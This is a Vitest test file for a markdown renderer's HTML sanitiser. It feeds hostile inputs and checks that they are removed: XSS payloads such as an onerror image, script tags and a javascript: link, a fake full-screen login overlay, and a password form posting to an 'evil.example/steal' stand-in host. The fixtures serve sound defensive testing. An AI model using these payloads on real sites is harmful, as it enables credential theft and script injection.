// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown, sanitizeKatex } from './Markdown';

describe('renderMarkdown', () => {
  it('renders markdown and strips executable HTML', () => {
    const html = renderMarkdown(
      '**bold** <img src=x onerror=alert(1)> <script>alert(2)</script> [a](javascript:alert(3))',
    );
    expect(html).toContain('<strong>bold</strong>');
    expect(html).not.toMatch(/onerror|<script|javascript:/);
  });
  it('drops style attributes, <style> and forms: no fake login page drawn over the site', () => {
    const html = renderMarkdown(
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in</div>' +
        '<style>body{display:none}</style>' +
        '<form action="https://evil.example/steal"><input name="password" type="password"><button>Go</button></form>' +
        '<iframe src="https://evil.example"></iframe>',
    );
    expect(html).toContain('Log in');
    expect(html).not.toMatch(/style|<form|<input|<button|<iframe|evil\.example/);
  });
  it('a substitute step runs before the sanitiser', () => {
    const html = renderMarkdown('x', { substitute: (h) => `${h}<img src=x onerror=alert(1)>` });
    expect(html).not.toContain('onerror');
  });
  it("strips Blueprint's overlay classes: no full-screen click-swallowing layer", () => {
    const html = renderMarkdown(
      '<div class="bp6-overlay-backdrop">a</div>' +
        '<div class="bp6-overlay-content bp6-toast-container-in-portal">b</div>' +
        '<span class="bp5-portal oj-toolbar">c</span>',
    );
    expect(html).toContain('a');
    expect(html).not.toMatch(/class=|bp6-|bp5-|oj-toolbar/);
  });
  it('keeps the classes the renderer produces, and only those of a mixed list', () => {
    const html = renderMarkdown(
      '```cpp\nint x;\n```\n\n<span class="oj-math bp6-overlay-backdrop hljs-keyword">x</span>',
    );
    expect(html).toContain('class="language-cpp"');
    expect(html).toContain('class="oj-math hljs-keyword"');
    expect(html).not.toContain('bp6-');
  });
  it("KaTeX's markup keeps KaTeX's classes, never Blueprint's", () => {
    const html = sanitizeKatex(
      '<span class="katex"><span class="katex-html bp6-overlay-backdrop"><span class="mord mathnormal">x</span></span></span>',
    );
    expect(html).toContain('class="katex-html"');
    expect(html).toContain('class="mord mathnormal"');
    expect(html).not.toContain('bp6-');
  });
  it('treats null as empty', () => {
    expect(renderMarkdown(null)).toBe('');
  });
});
